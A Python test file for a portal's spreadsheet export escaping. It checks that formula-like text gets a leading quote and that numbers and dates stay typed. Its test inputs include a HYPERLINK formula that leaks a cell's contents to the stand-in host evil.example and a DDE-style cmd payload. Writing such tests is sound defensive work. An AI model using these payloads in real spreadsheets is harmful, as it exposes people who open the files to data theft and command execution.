"""Cells of the files the portal writes: text that could start a formula gets a
single quote in front; numbers, amounts and dates stay typed."""

import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from portal.exports import safe_cell, safe_row, xlsx_row

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.mark.parametrize(
    "text",
    [
        HOSTILE,
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t张三",
        "\r张三",
        "\n张三",
        "  =1+2",
        "\u3000=1+2",  # a full-width space, as a Chinese keyboard types it
    ],
)
def test_text_that_could_start_a_formula_gets_a_quote_in_front(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    ["3M 中国有限公司", "佛山市禅城区人力资源服务中心", "张三", "a=b", "", "'已转义"],
)
def test_harmless_text_is_unchanged(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    "value",
    [
        Decimal("-12.50"),
        Decimal("3600.58"),
        -3,
        0,
        -0.5,
        datetime.date(2026, 11, 22),
        datetime.datetime(2026, 11, 22, 9, 30),
        None,
    ],
)
def test_numbers_amounts_and_dates_stay_typed(value):
    assert safe_cell(value) is value


def test_other_values_become_text():
    class Unit:
        def __str__(self):
            return "-禅城区"

    assert safe_cell(Unit()) == "'-禅城区"
    assert safe_row([1, "=1+2", Decimal("-1.00")]) == [1, "'=1+2", Decimal("-1.00")]


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_rows_hold_no_formula_and_keep_numbers(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("导出")
    sheet.append(xlsx_row(sheet, [HOSTILE, "#N/A", None, Decimal("-12.50"), "张三"]))
    out = io.BytesIO()
    book.save(out)
    [name, error, empty, amount, text] = load_workbook(out)["导出"][1]
    assert name.data_type == "s" and name.value == "'" + HOSTILE
    assert error.data_type == "s" and error.value == "#N/A"
    assert empty.value is None
    assert amount.data_type == "n" and amount.value == -12.5
    assert text.value == "张三"
